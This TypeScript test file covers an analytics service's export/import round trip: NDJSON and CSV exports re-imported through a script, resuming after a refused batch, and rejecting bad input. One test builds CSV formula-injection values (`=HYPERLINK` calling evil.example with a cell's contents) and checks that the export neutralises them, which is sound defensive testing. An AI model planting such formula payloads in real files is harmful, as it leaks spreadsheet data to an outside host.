import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import request from 'supertest';
import type { Express } from 'express';
import { openTestStores } from '@analytics/testing';
import { openReadService } from './test-support/seeded-service';
import { listenOnLoopback } from './test-support/listen';

// The round trip of issue 32: export a project (GET /v1/export), import the file into a fresh project with the real
// script (tools/import.mjs, as `npm run import` runs it) against an ingest server listening on a port, and compare.
type Stores = Awaited<ReturnType<typeof openTestStores>>;
type Keys = { pk: string; sk: string; rk: string };
const run = promisify(execFile);
const ROOT = join(__dirname, '../../..');
const ORIGIN = 'https://shop.example.com';
const D0 = Date.UTC(2026, 2, 2);
const FROM = new Date(D0).toISOString();
const TO = new Date(D0 + 7 * 86_400_000).toISOString();
const EVENTS = 2_600;

let stores: Stores;
let readApp: Express;
let server: Server;
let base: string;
let dir: string;
let origin: Keys;

async function project(name: string): Promise<Keys> {
  return (await stores.keyStore.createProject({ name, allowed_origins: [ORIGIN] })).keys;
}

beforeAll(async () => {
  const opened = await openReadService();
  stores = opened.stores;
  const ingestApp = opened.ingestApp;
  readApp = opened.readApp;
  ({ server, base } = await listenOnLoopback(ingestApp));
  dir = mkdtempSync(join(tmpdir(), 'import-spec-'));
  origin = await project('origin');
  const referrers = [undefined, 'https://www.google.com/', 'https://t.co/x', 'https://news.ycombinator.com/'];
  const events = Array.from({ length: EVENTS }, (_, i) => ({
    event: ['$pageview', 'signup', 'purchase'][i % 3],
    event_id: `ev-${i}`,
    timestamp: new Date(D0 + i * 60_000).toISOString(),
    anonymous_id: `anon-${i % 137}`,
    ...(i % 5 === 0 ? { user_id: `user-${i % 11}` } : {}),
    ...(i % 7 === 0 ? { session_id: `sess-${i % 13}` } : {}),
    ...(i % 4 === 0 ? { url: `${ORIGIN}/p/${i}?utm_source=newsletter&utm_medium=email` } : { path: `/p/${i % 9}` }),
    ...(referrers[i % 4] ? { referrer: referrers[i % 4] } : {}),
    properties: i % 2 ? { n: i, note: 'comma, "quote"\nline' } : {},
  }));
  for (let i = 0; i < events.length; i += 1000) {
    const res = await request(ingestApp).post('/v1/batch').set('authorization', `Bearer ${origin.sk}`).set('x-forwarded-for', '81.2.69.160').set('user-agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36').send({ events: events.slice(i, i + 1000) });
    expect(res.status).toBe(202);
  }
}, 120_000);

afterAll(async () => {
  server?.close();
  await stores?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

async function exportTo(key: string, format: 'ndjson' | 'csv'): Promise<string> {
  const res = await request(readApp).get('/v1/export').set('authorization', `Bearer ${key}`).query({ from: FROM, to: TO, format }).buffer(true).parse((r, done) => {
    const chunks: Buffer[] = [];
    r.on('data', (c: Buffer) => chunks.push(c));
    r.on('end', () => done(null, Buffer.concat(chunks)));
  });
  expect(res.status).toBe(200);
  const file = join(dir, `${format}-${Date.now()}.${format}`);
  writeFileSync(file, res.body as Buffer);
  return file;
}

const importFile = (key: string, file: string, ...extra: string[]) => run(process.execPath, ['tools/import.mjs', '--key', key, '--url', base, ...extra, file], { cwd: ROOT });

/** What must agree between the two projects: counts by event, source and medium, uniques, and the kept fields of every row. */
async function answers(key: string) {
  const stats = async (q: Record<string, string>) => (await request(readApp).get('/v1/stats').set('authorization', `Bearer ${key}`).query({ from: FROM, to: TO, limit: 1000, ...q })).body.rows;
  const rows = (await request(readApp).get('/v1/query').set('authorization', `Bearer ${key}`).query({ from: FROM, to: TO, limit: 1000, event: 'signup' })).body.rows as Array<Record<string, string | null>>;
  const kept = ['timestamp', 'event_id', 'event_name', 'anonymous_id', 'user_id', 'session_id', 'url', 'path', 'referrer', 'properties', 'source', 'medium', 'campaign', 'channel'];
  return {
    count: await stats({}),
    byEvent: await stats({ group_by: 'event_name' }),
    bySource: await stats({ group_by: 'source,medium' }),
    uniques: await stats({ metric: 'uniques', group_by: 'event_name' }),
    daily: await stats({ interval: 'day' }),
    signups: rows.map((r) => Object.fromEntries(kept.map((k) => [k, r[k]]))),
  };
}

describe('npm run import (tools/import.mjs): an export of a project imported into a fresh one', () => {
  it('ndjson: the stats and the kept fields of the rows agree', async () => {
    const file = await exportTo(origin.rk, 'ndjson');
    const target = await project('from-ndjson');
    const { stdout } = await importFile(target.sk, file);
    expect(JSON.parse(stdout)).toMatchObject({ ok: true, events_imported: EVENTS, events_total: EVENTS });
    expect(existsSync(`${file}.import-state`)).toBe(false);
    const want = await answers(origin.rk);
    expect(want.count).toEqual([{ value: EVENTS }]);
    expect(await answers(target.rk)).toEqual(want);
  }, 120_000);

  it('csv: the same, through the RFC 4180 file (quotes, commas and newlines in properties)', async () => {
    const file = await exportTo(origin.rk, 'csv');
    const target = await project('from-csv');
    await importFile(target.sk, file);
    expect(await answers(target.rk)).toEqual(await answers(origin.rk));
  }, 120_000);

  it("csv: values a spreadsheet would run as formulas leave with the export's ' in front and come back exactly as sent", async () => {
    const source = await project('formulas-origin');
    const leads = ['=', '+', '-', '@', '\t', '\r', "'=", "''@", "'", 'a='];
    const events = leads.map((lead, i) => ({
      event: `${lead}HYPERLINK("https://evil.example/?x="&A1)`,
      event_id: `${lead}id-${i}`,
      timestamp: new Date(D0 + i * 60_000).toISOString(),
      anonymous_id: `${lead}anon-${i}`,
      user_id: `${lead}user-${i}`,
      session_id: `${lead}sess-${i}`,
      path: `${lead}path-${i}`,
      referrer: `${lead}ref-${i}`,
      url: `${ORIGIN}/?utm_source=${encodeURIComponent(`${lead}src`)}&utm_campaign=${encodeURIComponent(`${lead}camp`)}`,
    }));
    const res = await request(server).post('/v1/batch').set('authorization', `Bearer ${source.sk}`).send({ events });
    expect(res.status).toBe(202);
    const file = await exportTo(source.rk, 'csv');
    // The file itself is safe to open in a spreadsheet: the guard is on the cells.
    expect(readFileSync(file, 'utf8')).toContain(`"'=HYPERLINK(`);
    const target = await project('formulas-target');
    await importFile(target.sk, file);
    const rowsOf = async (key: string) => {
      const got = (await request(readApp).get('/v1/query').set('authorization', `Bearer ${key}`).query({ from: FROM, to: TO, limit: 1000 })).body.rows as Array<Record<string, string | null>>;
      const kept = ['timestamp', 'event_id', 'event_name', 'anonymous_id', 'user_id', 'session_id', 'path', 'referrer', 'source', 'campaign'];
      return got.map((r) => Object.fromEntries(kept.map((k) => [k, r[k]]))).sort((x, y) => (x.timestamp! < y.timestamp! ? -1 : 1));
    };
    const sent = await rowsOf(source.rk);
    expect(sent.map((r) => r.event_name)).toEqual(events.map((e) => e.event));
    // utm_source as the classifier keeps it (trimmed): through a site's public key, a formula in the source column too.
    expect(sent.map((r) => r.source)).toEqual(leads.map((l) => `${l.trim()}src`));
    expect(await rowsOf(target.rk)).toEqual(sent);
  }, 120_000);

  it('resumes after a refused batch from the last acknowledged one, and deletes its state when done', async () => {
    const file = await exportTo(origin.rk, 'ndjson');
    const original = readFileSync(file);
    const lines = original.toString('utf8').split('\n');
    // Record 1501 (in the second batch) gets a timestamp the server refuses, of the same length: the file keeps its size.
    const broken = lines[1500]!.replace(/"timestamp":"2026/, '"timestamp":"XXXX');
    expect(broken).not.toBe(lines[1500]);
    writeFileSync(file, [...lines.slice(0, 1500), broken, ...lines.slice(1501)].join('\n'));
    const target = await project('resumed');
    const failed = await importFile(target.sk, file).then(() => null, (e: { code: number; stderr: string }) => e);
    expect(failed?.code).toBe(1);
    expect(failed?.stderr).toContain('400');
    const state = JSON.parse(readFileSync(`${file}.import-state`, 'utf8'));
    const firstBatchEnd = Buffer.byteLength(`${lines.slice(0, 1000).join('\n')}\n`);
    expect(state).toMatchObject({ offset: firstBatchEnd, events: 1000, size: original.length });
    // Fixed, the same command resumes: the first batch is not sent twice.
    writeFileSync(file, original);
    const { stdout, stderr } = await importFile(target.sk, file);
    expect(stderr).toContain(`resuming ${file} at byte ${firstBatchEnd}`);
    expect(JSON.parse(stdout)).toMatchObject({ ok: true, events_imported: EVENTS - 1000, events_total: EVENTS });
    expect(existsSync(`${file}.import-state`)).toBe(false);
    expect(await answers(target.rk)).toEqual(await answers(origin.rk));
  }, 120_000);

  it('refuses a parquet file and a missing key with exit code 2, sending nothing', async () => {
    for (const args of [['--key', 'sk_x', 'x.parquet'], [join(dir, 'none.ndjson')]]) {
      const e = await run(process.execPath, ['tools/import.mjs', '--url', base, ...args], { cwd: ROOT }).then(() => null, (err: { code: number }) => err);
      expect(e?.code).toBe(2);
    }
  });
});
